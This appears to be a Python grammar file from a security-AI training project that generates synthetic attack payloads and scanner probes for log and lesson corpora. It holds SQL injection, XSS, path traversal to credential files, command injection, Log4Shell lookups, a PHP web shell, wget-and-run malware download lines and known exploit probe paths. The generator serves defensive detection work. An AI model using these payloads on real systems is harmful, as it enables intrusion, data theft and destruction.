"""Payloads and probes that logs, tickets and lessons quote; ``attacks/commonplace`` sends the same."""

from __future__ import annotations

from securitai.train.corpora.normal.grammar import grammar

QUOTED = grammar(r"""
@pay
  ×9 ‹pay_sqli›
  ×5 ‹pay_xss›
  ×4 ‹pay_path›
  ×5 ‹pay_cmdi›
  ×4 ‹pay_ssti›
  ×1 ‹pay_log4shell›
  ×1 ‹pay_shellshock›
  ×1 ‹pay_ssrf›
  ×1 ‹pay_ldapi›
  ×2 ‹pay_nosqli›
  ×1 ‹pay_code›
  ×1 ‹pay_crlf›
  ×1 ‹pay_proto›
  ‹int› order by ‹int›
  information_schema.‹=tables/columns›
  javascript:‹=alert(1)/void(document.title='x')/fetch('∕∕‹host›')›
  <‹=b/i/u/h1/marquee/details open ontoggle=alert(1)›>‹word›</b>
  http://‹host›/‹slug›.txt?
  ${jndi:‹=ldap:.../dns:‹host›/${lower:l}dap.../rmi:...›}
  <!ENTITY ‹letter› ...>
  rO0AB‹alnum›
  O:8:"stdClass":‹digit›:{}
  //‹host›/%2f..
  <xsl:value-of select="system-property('xsl:vendor')"/>
@pay_sqli
  ' OR ‹digit›=‹digit›‹=/ --/ -- -/#›
  ‹=1/‹int›/‹word›› ‹=AND/OR/and/or› ‹int›=‹int›
  ‹word›' ‹=and/or› '‹letter›'='‹letter›
  ‹=‹int›/-1/‹int›'› ‹=UNION SELECT/union select/UNION ALL SELECT› ‹snake›, ‹snake› ‹=from/FROM› ‹snake›
  ‹=1/‹int›'/')›; ‹=DROP TABLE/drop table/DELETE FROM/TRUNCATE› ‹snake›‹=;--/ --/›
  ‹=‹int›/'› ‹=AND SLEEP/or sleep/and pg_sleep/; WAITFOR DELAY '0:0:5'; SELECT pg_sleep›(‹digit›)
  extractvalue(1,concat(0x7e,version()))
  ‹user›'--
  ') or ('‹letter›'='‹letter›
@pay_xss
  <script>‹=alert/prompt/confirm›(‹=1/‹int›/document.domain/document.cookie/'‹word›'›)</script>
  <img src=x onerror=‹=alert(1)/prompt()/alert(document.domain)/console.log(1)›>
  "><svg‹= /∕›onload=‹=alert(1)/confirm(1)/alert`1`›>
  " ‹=onmouseover/onfocus/onclick/autofocus onfocus›="‹=alert(1)/x()›
  <iframe src=‹=∕∕‹host›/javascript:alert(1)›></iframe>
@pay_path
  ‹up›‹=etc∕passwd/etc∕shadow/windows∕win.ini/boot.ini/proc∕self∕environ/var∕log∕auth.log/.env›
  ..\..\..\‹=windows\win.ini/web.config/‹slug›.ini/inetpub\logs›
  file:///‹=etc∕passwd/c:∕windows∕win.ini/proc∕self∕cmdline›
  php://filter/convert.base64-encode/resource=‹slug›
@pay_cmdi
  ; ‹=id/ls -la/cat ∕etc∕passwd/whoami/sleep ‹digit›/uname -a/rm -rf ∕tmp∕‹slug››
  ‹=|/||/&&/&› ‹=id/whoami/ping -c ‹digit› ‹host›/type c:\windows\win.ini/curl ‹host›/nslookup ‹host›/cat ∕etc∕hosts›
  $(‹=id/whoami/curl ‹host›∕‹letter›/sleep ‹digit›/wget -qO- ‹host››)
  `‹=id/uname -a/nslookup ‹domain››`
  cd /tmp; wget http://‹ip›/‹=bins.sh/‹pseudo›.sh/mozi.m/arm7›; sh ‹pseudo›
@pay_ssti
  {{‹int›*‹int›}}
  ${‹int›*‹int›}
  {{‹=config/self.__class__/''.__class__.__mro__/request.application›}}
  <%= ‹int› * ‹int› %>
@pay_log4shell
  %24%7Bjndi:ldap://‹host›/‹letter›%7D
@pay_shellshock
  () { :;}; ‹=echo/∕bin∕ping -c1/∕bin∕bash -c› ‹word›
@pay_ssrf
  http://‹=169.254.169.254∕latest∕meta-data∕/127.0.0.1:‹port›∕/localhost∕server-status/metadata.google.internal∕/[::1]:‹port›∕›
@pay_ldapi
  *)(‹=uid/cn/objectClass›=*
@pay_nosqli
  {"$‹=ne/gt/regex/where›":‹=null/""/"^a"/1›}
  ‹slug›[$‹=ne/gt/regex›]=‹word›
@pay_code
  <?php ‹=system($_GET['c'])/phpinfo()/eval($_POST[‹letter›])/echo md5(1)›; ?>
@pay_crlf
  %0d%0aX-‹pascal›: ‹word›
@pay_proto
  __proto__[‹camel›]=‹=1/true›
@up
  ‹dots*1-8|/›/
@dots
  ..
@probe
  /.env
  /.git/config
  /wp-login.php
  /xmlrpc.php
  /wp-content/plugins/‹kebab›/readme.txt
  /wp-admin/setup-config.php?step=1
  /phpmyadmin/‹=index.php?lang=en/setup.php/scripts∕setup.php›
  /‹=pma/mysql/dbadmin/phpMyAdmin-‹ver›/adminer.php›
  /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
  /cgi-bin/‹=luci/;stok=∕locale/test.cgi/.%2e∕.%2e∕bin∕sh/php?-d+allow_url_include%3don›
  /boaform/admin/formLogin?username=‹=admin/ec8›&psd=‹=ec8/admin›
  /GponForm/diag_Form?images/
  /HNAP1/
  /manager/html
  /actuator/‹=env/heapdump/gateway∕routes›
  /solr/admin/‹=info∕system?wt=json/cores?action=CREATE›
  /_ignition/execute-solution
  /owa/auth/‹=x.js/logon.aspx›
  /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
  /‹slug›.‹=sql/bak/zip/tar.gz/old/swp/php~/env.save›
  /backup/‹domain›.zip
  /config.json
  /server-status
  /shell?cd+/tmp;rm+-rf+*;wget+‹ip›/‹=jaws/mozi.a/‹pseudo››;sh+/tmp/‹pseudo›
  /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=‹word›
  /?XDEBUG_SESSION_START=phpstorm
  /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=‹=ls/busybox›&curpath=/
  /admin/config.php
  /console/‹=login∕LoginForm.jsp/css∕%252e%252e%252fconsole.portal›
  /druid/index.html
  /api/jsonws/invoke
  /?author=‹small›
  \x16\x03\x01\x02\x00\x01\x00
""")
